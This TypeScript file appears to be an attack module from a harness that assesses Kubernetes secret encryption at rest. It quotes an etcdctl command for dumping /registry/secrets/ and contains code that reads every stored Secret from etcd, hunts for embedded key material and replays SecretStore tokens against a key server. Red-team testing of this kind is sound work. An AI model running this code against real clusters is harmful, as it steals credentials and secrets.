// etcd: read access to the datastore, as `etcdctl get --prefix /registry/secrets/` or a backup gives it. The values
// are what the datastore holds - ciphertext when the API server encrypts, plaintext otherwise; file-system
// encryption under the datastore is transparent to its readers. The attacker also looks for key material inside
// the values (a KMS whose "wrapping" is reversible shows up here), and replays a SecretStore's token found in the
// datastore against its key server (secret-store-tokens.ts).
import { openEtcdStore } from '../../storage/etcd/etcd-store.js';
import type { Attack } from '../attack.js';
import type { StoredValue } from '../decrypt-trial.js';
import { findKeyCandidates } from '../key-candidates.js';
import { emptyLoot } from '../loot.js';
import { replaySecretStoreTokens } from './secret-store-tokens.js';

export async function readEtcdSecrets(endpoint: string, signal: AbortSignal, prefix = '/registry/secrets/'): Promise<StoredValue[]> {
  const store = await openEtcdStore({ endpoints: [endpoint] });
  try {
    const out: StoredValue[] = [];
    let startKey: string | undefined;
    for (;;) {
      signal.throwIfAborted();
      const page = await store.list(prefix, { limit: 500, ...(startKey ? { startKey } : {}) });
      for (const kv of page.kvs) out.push({ key: kv.key, value: Buffer.from(kv.value), source: `etcd get --prefix ${prefix} (${endpoint})` });
      if (!page.more || page.kvs.length === 0) break;
      startKey = `${page.kvs[page.kvs.length - 1]!.key}\0`;
    }
    return out;
  } finally {
    await store.close();
  }
}

export const etcdAttack: Attack = {
  id: 'etcd',
  requires: ['etcd'],
  async run(target, signal) {
    const loot = emptyLoot();
    const ds = target.etcd;
    if (!ds) return { ...loot, notApplicable: 'no datastore' };
    loot.values.push(...ds.values);
    loot.notes.push(`${ds.values.length} stored Secret value(s) via ${ds.how}`);
    for (const v of ds.values) loot.keys.push(...findKeyCandidates(v.value).map((k) => ({ ...k, where: `inside the value of ${v.key} ${k.where}` })));
    if (ds.objects.length > 0) await replaySecretStoreTokens(ds.objects, ds.values, 'etcd', loot, signal, target.awsEndpoint);
    return loot;
  },
};
